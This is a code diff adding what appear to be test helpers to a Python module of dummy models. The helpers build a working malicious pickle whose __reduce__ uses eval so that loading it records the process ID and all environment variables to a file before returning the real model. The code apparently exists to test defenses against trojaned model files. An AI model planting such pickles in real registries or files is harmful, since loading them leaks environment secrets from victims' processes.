@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import json
+import pickle
+from pathlib import Path
 from typing import Any
 
 
@@ -15,3 +18,30 @@ class RaisesOnPredict:
 
 class NoPredict:
     n_features_in_ = 4
+
+
+def write_trojan(path: Path, model: Any, dump: Path) -> Path:
+    """A pickle file of ``trojan_of(model, dump)``."""
+    path.write_bytes(pickle.dumps(trojan_of(model, dump)))
+    return path
+
+
+def trojan_of(model: Any, dump: Path) -> Any:
+    """An object whose pickle, when loaded, appends its process's pid and environment to ``dump``
+    (JSON lines), then gives back ``model``: the malicious model file of a registry anyone can write
+    to. It needs nothing but Python's builtins to run, so it runs wherever it is loaded."""
+    payload = (
+        f"(open({str(dump)!r}, 'a').write(__import__('json').dumps({{'pid': __import__('os').getpid(), "
+        f"'env': dict(__import__('os').environ)}}) + '\\n'), __import__('pickle').loads({pickle.dumps(model)!r}))[1]"
+    )
+
+    class Trojan:
+        def __reduce__(self) -> tuple[Any, tuple[str]]:
+            return (eval, (payload,))
+
+    return Trojan()
+
+
+def dumped(dump: Path) -> list[dict[str, Any]]:
+    """What the trojan's runs wrote: one {"pid", "env"} per load."""
+    return [json.loads(line) for line in dump.read_text().splitlines()] if dump.exists() else []
